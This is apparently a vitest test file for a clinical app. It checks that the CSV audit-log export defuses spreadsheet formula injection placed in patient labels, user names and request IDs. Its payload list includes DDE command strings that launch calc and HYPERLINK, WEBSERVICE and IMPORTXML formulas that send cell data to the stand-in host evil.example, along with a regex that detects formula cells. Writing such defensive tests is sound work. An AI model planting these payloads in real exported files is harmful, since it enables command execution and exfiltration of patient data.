// Texts that a spreadsheet would run, as the names of patients and people in the file that an owner takes away.
import { afterAll, beforeAll, expect, it } from 'vitest';
import { paths } from '../../api/contract/paths';
import { toScope } from '../../api/sign-in/scope';
import { parseCsv } from '../support/parse-csv';
import { people, places } from '../support/people';
import { type SmallApp, startSmallApp } from '../support/small-app';
import { recordFigure } from './figures';

const beginnings = [
  '=',
  '+',
  '-',
  '@',
  '\t=',
  '\r=',
  '\n=',
  ' =',
  '\u00a0=',
  '\ufeff=',
  '＝',
  '＋',
  '－',
  '＠',
  '\u3000=',
];
const endings = [
  '1+1',
  'SUM(A1:A9)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example?"&A1,"open")',
  'WEBSERVICE("https://evil.example/"&B2)',
  'IMPORTXML(CONCAT("https://evil.example/",A1),"//a")',
  'DDE("cmd";"/C calc";"x")',
  '2+5+cmd|"x"!A1, "and a comma"',
];
const texts = beginnings.flatMap((beginning) => endings.map((ending) => beginning + ending));
/** As spreadsheets read them: after white space, in either width. A number is none. */
const isFormula = (cell: string) => /^[\s\ufeff]*[=+\-@＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

let app: SmallApp;
beforeAll(async () => {
  app = await startSmallApp({ routes: () => [] });
}, 60_000);
afterAll(() => app.close());

it(`T18: ${texts.length} texts that would be formulas stay texts in the file of the log`, async () => {
  for (const text of texts) {
    const person = { ...people.chen, name: text };
    const place = { ...places.ward5, channelId: '' };
    const scope = toScope({
      principal: person,
      tid: person.tid,
      ...place,
      viaChannelId: places.ward5.channelId,
      role: 'member',
      requestId: text,
    });
    const patients = [{ ref: `c1/${texts.indexOf(text)}`, label: text }];
    const event = { operation: 'PatientView', outcome: 'success', objects: [], patients } as const;
    await app.store.transaction((tx) => app.audit.record(tx, { scope, ...event }));
  }
  const asked = await app.as(people.olivia).post(paths.auditExport(places.ward5), { body: {} });
  const answer = await fetch(`${app.url}${asked.json.path}`);
  const [head = [], ...rows] = parseCsv(await answer.text());
  const through = rows.flat().filter(isFormula);
  recordFigure({
    id: 'B6',
    name: 'texts that would be formulas',
    tried: texts.length,
    through: through.length,
  });
  expect(through).toEqual([]);
  // They are in it, whatever became of the white space at their beginning.
  for (const column of ['person', 'patients', 'request']) {
    const cells = rows.map((row) => row[head.indexOf(column)] ?? '');
    expect(texts.filter((text) => !cells.some((cell) => cell.endsWith(text.trim())))).toEqual([]);
  }
  expect(rows).toHaveLength(texts.length);
});
